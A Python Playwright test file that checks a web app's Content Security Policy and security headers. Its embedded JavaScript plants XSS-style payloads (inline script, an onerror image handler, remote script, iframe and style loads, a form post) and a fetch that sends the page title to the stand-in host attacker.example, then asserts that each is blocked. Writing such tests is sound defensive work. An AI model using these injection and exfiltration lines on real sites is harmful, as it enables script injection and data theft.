"""The browser itself keeps code from running, should it ever get into the page."""

from pages import PATIENCE_MS

TRIES = """async () => {
    const told = [];
    document.addEventListener("securitypolicyviolation", (event) => told.push(event.effectiveDirective));
    const put = (name, settings) => document.body.append(Object.assign(document.createElement(name), settings));
    put("script", { textContent: "window.hacked = 1" });
    put("div", { innerHTML: "<img src='data:image/png,x' onerror='window.hacked = 2'>" });
    put("script", { src: "https://attacker.example/x.js" });
    put("iframe", { src: "https://attacker.example/" });
    put("style", { textContent: "body { background: url(https://attacker.example/seen) }" });
    put("form", { action: "https://attacker.example/" });
    document.forms[document.forms.length - 1].submit();
    const sent = await fetch("https://attacker.example/?q=" + document.title).then(() => "sent", () => "refused");
    const expected = [
        "connect-src", "form-action", "frame-src", "script-src-attr", "script-src-elem", "style-src-elem",
    ];
    while (!expected.every((one) => told.includes(one))) await new Promise((done) => setTimeout(done, 20));
    return { hacked: window.hacked ?? null, sent, address: location.host };
}"""


def test_the_policy_stops_scripts_styles_frames_and_messages_to_elsewhere(browser, server):
    context = browser.new_context()
    context.set_default_timeout(PATIENCE_MS)
    page, answered = context.new_page(), []
    page.goto(server)
    page.on("response", lambda response: answered.append(response.url))
    found = page.evaluate(TRIES)
    context.close()
    assert found["hacked"] is None and found["sent"] == "refused" and found["address"] in server
    assert not [address for address in answered if "attacker" in address]


def test_every_answer_carries_the_policy_and_none_may_be_framed_or_guessed_at(page, server):
    for path in ("", "main.js", "page.css", "v1/health", "v1/search?q=a", "nowhere", "openapi.json", "metrics"):
        answer = page.request.get(server + path)
        policy = answer.headers["content-security-policy"]
        assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy, path
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
        assert answer.headers["x-content-type-options"] == "nosniff" and answer.headers["x-frame-options"] == "DENY"
